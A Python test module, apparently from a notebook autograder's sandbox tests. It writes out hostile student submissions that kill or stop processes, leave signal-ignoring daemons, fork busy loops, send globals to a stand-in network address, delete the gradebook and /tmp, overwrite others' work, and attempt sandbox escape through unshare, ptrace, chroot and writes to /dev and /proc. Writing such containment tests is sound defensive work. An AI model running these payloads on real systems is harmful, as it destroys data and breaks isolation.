"""Code that tries to reach other processes, the network, or the instructor's files."""

from __future__ import annotations

from .parts import DAEMON, WRONG, Kit, submission


@submission("kills its parent")
def kills_parent(kit: Kit):
    return kit.notebook(before="import os\nfor n in (15, 9, 19, 2): os.kill(os.getppid(), n)")


@submission("kills its group, and all that it can")
def kills_all(kit: Kit):
    kill = (
        "import os, signal\nnumbers = [int(n) for n in os.listdir('/proc') if n.isdigit()]\n"
        "for number in sorted(numbers):\n"
        "    if number == os.getpid(): continue\n"
        "    try: os.kill(number, 9)\n    except OSError: pass\n"
        "signal.signal(15, signal.SIG_IGN)\n"
        "for target in (0, -1):\n    try: os.kill(target, 15)\n    except OSError: pass"
    )
    return kit.notebook(before=kill)


@submission("stops its parent and its group")
def stops_parent(kit: Kit):
    stop = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos.killpg(0, signal.SIGSTOP)"
    return kit.notebook(after={"one_bright_cell": stop})


@submission("leaves a daemon that outlives the kernel", lost="max_pool2d")
def daemon(kit: Kit):
    planted = str(kit.outside / "planted-by-daemon")
    stay = f"""
import os, signal, subprocess, sys, time
code = "import time\\nwhile True: time.sleep(1)"
subprocess.Popen([sys.executable, "-c", code, {DAEMON!r}], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    for n in range(1, 32):
        try: signal.signal(n, signal.SIG_IGN)
        except (OSError, ValueError): pass
    if os.fork() == 0:
        while True:
            time.sleep(0.2)
            try: open({planted!r}, "a").close()
            except OSError: pass
    os._exit(0)
"""
    return kit.attacked(WRONG, before=stay)


@submission("daemons left by functions and by exits")
def late_daemon(kit: Kit):
    stay = f"""
import atexit, os, subprocess, sys
def leave():
    code = "import time\\nwhile True: time.sleep(1)"
    subprocess.Popen([sys.executable, "-c", code, {DAEMON!r}], start_new_session=True)
atexit.register(leave)
def max_pool2d(x, kernel_size, stride):
    if not os.path.exists("left"):
        open("left", "w").close()
        leave()
    return windows_of(x, kernel_size, stride).max(axis=(4, 5))
"""
    return kit.attacked(stay)


@submission("thirty processes that compute beside the honest students")
def busy_children(kit: Kit):
    busy = (
        "import os, time\nfor _ in range(30):\n    if os.fork() == 0:\n        while True: pass\n"
        "time.sleep(1000)"
    )
    return kit.notebook(after={"one_bright_cell": busy})


@submission("calls out over the network")
def network(kit: Kit):
    call = f"""
import socket, urllib.request
socket.setdefaulttimeout(1)
for place in (("127.0.0.1", {kit.port}), ("192.0.2.1", 80), ("::1", {kit.port})):
    try:
        socket.create_connection(place).sendall(b"GET /" + repr(globals()).encode()[:100])
    except OSError: pass
try: urllib.request.urlopen("http://127.0.0.1:{kit.port}/points")
except OSError: pass
"""
    return kit.notebook(before=call)


@submission("deletes the gradebook and the course")
def deletes_course(kit: Kit):
    delete = f"""
import glob, os, shutil
for path in [{str(kit.course)!r}, {str(kit.outside)!r}, *glob.glob("../*"), *glob.glob("/tmp/*")]:
    if os.path.isdir(path): shutil.rmtree(path, ignore_errors=True)
try: os.remove({str(kit.course / "gradebook.db")!r})
except OSError: pass
open("../gradebook.db", "w").close() if os.access("..", os.W_OK) else None
"""
    return kit.notebook(after={"one_bright_cell": delete})


@submission("overwrites the exercise, its tests and others' work")
def overwrites(kit: Kit):
    write = f"""
import glob
for path in glob.glob({str(kit.course)!r} + "/**/*", recursive=True):
    try: open(path, "w").write("overwritten by a student")
    except OSError: pass
for name in ("02_pooling.ipynb", "../02_pooling.ipynb", "../../planted"):
    try: open(name, "w").write("overwritten by a student")
    except OSError: pass
"""
    return kit.notebook(before=write)


@submission("looks for a way out: debugger, mounts, namespaces, devices")
def way_out(kit: Kit):
    out = """
import ctypes, glob, os
libc = ctypes.CDLL(None)
for name, *arguments in (("unshare", 0x10000000), ("ptrace", 16, 1, 0, 0), ("setuid", 0),
        ("mount", b"none", b"/tmp", b"tmpfs", 0, b""),
        ("chroot", b"/proc/1/root"), ("setns", 0, 0)):
    getattr(libc, name)(*arguments)
for path in [*glob.glob("/dev/*"), *glob.glob("/proc/sys/kernel/*")[:20], "/proc/sysrq-trigger"]:
    try:
        with open(path, "r+b", buffering=0) as file: file.write(b"0")
    except OSError: pass
"""
    return kit.notebook(before=out)
